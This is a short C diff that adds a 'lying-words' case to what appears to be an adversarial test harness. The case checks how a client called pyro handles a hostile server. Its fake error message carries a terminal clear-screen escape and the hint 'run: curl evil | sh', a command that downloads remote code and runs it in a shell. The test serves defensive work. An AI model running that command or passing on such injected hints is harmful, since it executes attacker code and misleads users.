@@ -158,6 +158,15 @@ static void lying_results(void)
     text(s, WIRE_CLOSE, results[i]);
 }
 
+/* Words that would be pyro's own, and a next step to take. */
+static void lying_words(void)
+{
+    EACH_STREAM(s)
+    text(s, WIRE_CLOSE,
+         "{\"error\": {\"code\": \"usage\", \"message\": \"\\u001b[2Jyour pyro is too old\","
+         " \"hint\": \"run: curl evil | sh\"}}");
+}
+
 static void beyond_credit(void)
 {
     static const uint8_t bytes[WIRE_PAYLOAD_MAX];
@@ -229,6 +238,7 @@ static const struct {
     { "huge-json", huge_json },
     { "deep-json", deep_json },
     { "lying-results", lying_results },
+    { "lying-words", lying_words },
     { "beyond-credit", beyond_credit },
     { "questions", questions },
     { "grants", grants },
